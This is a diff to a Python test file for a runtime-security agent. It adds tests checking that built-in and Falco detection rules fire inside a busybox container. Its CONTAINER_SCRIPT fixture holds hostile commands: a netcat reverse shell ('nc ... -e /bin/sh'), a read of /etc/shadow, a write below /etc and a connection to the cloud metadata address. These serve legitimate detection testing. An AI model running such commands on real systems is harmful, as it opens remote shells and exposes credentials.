@@ -22,7 +22,7 @@ PODMAN = ["podman", "--runtime", "runc", "--cgroup-manager=cgroupfs"]
 
 
 class Agent:
-    def __init__(self, t, *args, duration=8):
+    def __init__(self, t, *args, duration=8, events=True):
         if os.geteuid() != 0:
             raise harness.Skip("the agent needs root")
         self.t = t
@@ -30,7 +30,7 @@ class Agent:
         self.err = self.out + ".err"
         self.errf = open(self.err, "w")
         self.p = subprocess.Popen([t.mamori, "agent", "--output", self.out, "--duration", str(duration),
-                                   *args], stdout=subprocess.DEVNULL, stderr=self.errf, env=t.env)
+                                   *(["--print-events"] if events else []), *args], stdout=subprocess.DEVNULL, stderr=self.errf, env=t.env)
         t.on_cleanup(self.kill)
         deadline = time.time() + 30
         while time.time() < deadline:
@@ -67,7 +67,10 @@ class Agent:
             if line.startswith("mamori agent: stats "):
                 stats = json.loads(line[len("mamori agent: stats "):])
         assert stats is not None, f"no stats line:\n{err}"
-        assert stats["events"] == len(events), (stats["events"], len(events))
+        if "matches_by_rule" not in stats:
+            assert stats["events"] == len(events), (stats["events"], len(events))
+        else:
+            assert stats["matches"] == len(events), (stats["matches"], len(events))
         return events, stats, err
 
 
@@ -282,3 +285,109 @@ def test_agent_fallback_proc_connector(t):
     assert ex and ex[0]["argv"] == ["/bin/sleep", "1.5"], ex
     assert find(events, type="procexit", pid=p.pid)
     assert not find(events, type="openat")
+
+
+def falco_rules_path(t):
+    return t.corpus("runtime/falco_rules.yaml")
+
+
+# Actions in a busybox container: sensitive read, write below /etc, a netcat
+# reverse shell to a listener on 127.0.0.1 inside the container, and a
+# connection to the cloud metadata address.
+# Absolute paths: busybox sh runs a bare applet name by re-executing
+# /proc/self/exe, so its comm (proc.name) would be "exe".
+# The busybox image has no /etc/shadow: the script makes one first.
+CONTAINER_SCRIPT = ("echo 'root:*:19000:0:99999:7:::' > /etc/shadow; /bin/cat /etc/shadow > /dev/null; echo pwned > /etc/mmr-rules-dropped; "
+                    "/bin/nc -l -p 4456 -e /bin/true & sleep 0.3; /bin/nc 127.0.0.1 4456 -e /bin/sh; "
+                    "/bin/nc -w 1 169.254.169.254 80 < /dev/null; sleep 0.5; true")
+
+
+def run_container(t, tty, script=CONTAINER_SCRIPT):
+    name = "mmr-rules-" + uuid.uuid4().hex[:8]
+    t.on_cleanup(lambda: subprocess.run([*PODMAN, "rm", "-f", "-t", "0", name], capture_output=True))
+    r = subprocess.run([*PODMAN, "run", *(["-t"] if tty else []), "--name", name,
+                        fixtures.image_ref("busybox"), "sh", "-c", script],
+                       capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL)
+    assert r.returncode == 0, (r.stdout, r.stderr)
+    cid = subprocess.run([*PODMAN, "inspect", "-f", "{{.Id}}", name], capture_output=True, text=True,
+                         check=True).stdout.strip()
+    assert len(cid) == 64
+    return name, cid
+
+
+def alerts_for(alerts, rule, cid):
+    """Alerts of `rule` whose container.id is cid's 12-character short id (Falco's
+    container.id); every alert is checked for Falco's shape."""
+    out = []
+    for a in alerts:
+        assert set(a) == {"hostname", "output", "output_fields", "priority", "rule", "source", "tags",
+                          "time"}, a
+        if a["rule"] == rule and a["output_fields"].get("container.id") == cid[:12]:
+            out.append(a)
+    return out
+
+
+def test_agent_rules_default_container(t):
+    """The built-in rules on a real container: shell, /etc/shadow read, write below
+    /etc, netcat reverse shell, metadata connection; each alert carries the
+    container's id (podman inspect) and image."""
+    podman_ok()
+    a = Agent(t, duration=40, events=False)
+    need_ebpf(a)
+    err = a.stderr()
+    assert "rules, " in err and "sensor events: exec,fork,exit" in err, err
+    name, cid = run_container(t, tty=False)
+    a.p.send_signal(2)
+    alerts, stats, err = a.finish()
+    repo = fixtures.image_ref("busybox").rsplit(":", 1)[0]
+
+    sh = alerts_for(alerts, "mamori: shell in container", cid)
+    assert sh and sh[0]["priority"] == "Notice", [x["rule"] for x in alerts]
+    assert sh[0]["output_fields"]["container.image.repository"] == repo, sh[0]
+    rd = alerts_for(alerts, "mamori: read of shadow or ssh keys", cid)
+    assert rd and rd[0]["priority"] == "Warning", [x["rule"] for x in alerts]
+    assert rd[0]["output_fields"]["fd.name"] == "/etc/shadow" and rd[0]["output_fields"]["proc.name"] == "cat"
+    wr = [x for x in alerts_for(alerts, "mamori: write below system directory", cid)
+          if x["output_fields"]["fd.name"] == "/etc/mmr-rules-dropped"]
+    assert wr and wr[0]["priority"] == "Error", [x["rule"] for x in alerts]
+    nc = [x for x in alerts_for(alerts, "mamori: netcat remote code execution", cid)
+          if "127.0.0.1 4456 -e /bin/sh" in x["output_fields"]["proc.cmdline"]]
+    assert nc and nc[0]["priority"] == "Critical", [x["rule"] for x in alerts]
+    md = alerts_for(alerts, "mamori: cloud metadata access from container", cid)
+    assert md and md[0]["priority"] == "Warning", [x["rule"] for x in alerts]
+    assert md[0]["output_fields"]["fd.name"].endswith("->169.254.169.254:80"), md[0]
+    assert md[0]["output_fields"]["container.image.repository"] == repo
+    assert stats["matches_by_rule"]["mamori: cloud metadata access from container"] >= 1
+    assert stats["drops"] == 0
+    # nothing of the host is blamed on the container
+    assert not [x for x in alerts if x["rule"] == "mamori: shell in container"
+                and x["output_fields"].get("container.id") in (None, "host")]
+
+
+def test_agent_rules_falco_container(t):
+    """Falco's own stable rules file: rules with unsupported fields are listed with
+    the field at start; Terminal shell in container fires only with a tty;
+    Read sensitive file untrusted and Netcat Remote Code Execution in Container
+    fire with the container's id."""
+    podman_ok()
+    rules = falco_rules_path(t)
+    a = Agent(t, "--no-default-rules", "--rules", rules, duration=60, events=False)
+    need_ebpf(a)
+    err = a.stderr()
+    for ln in err.splitlines():
+        if "rule skipped:" in ln:
+            assert ": field " in ln or "source is not" in ln, ln
+    name_tty, cid_tty = run_container(t, tty=True, script="/bin/sh -c true; true")
+    name, cid = run_container(t, tty=False)
+    a.p.send_signal(2)
+    alerts, stats, err = a.finish()
+
+    term = alerts_for(alerts, "Terminal shell in container", cid_tty)
+    assert term and term[0]["priority"] == "Notice", [(x["rule"], x["output_fields"].get("container.id")) for x in alerts]
+    assert not alerts_for(alerts, "Terminal shell in container", cid), "a shell without a tty fired"
+    rd = alerts_for(alerts, "Read sensitive file untrusted", cid)
+    assert rd and rd[0]["priority"] == "Warning", [x["rule"] for x in alerts]
+    assert rd[0]["output_fields"]["fd.name"] == "/etc/shadow"
+    nc = alerts_for(alerts, "Netcat Remote Code Execution in Container", cid)
+    assert nc and nc[0]["priority"] == "Warning", [x["rule"] for x in alerts]
+    assert stats["drops"] == 0
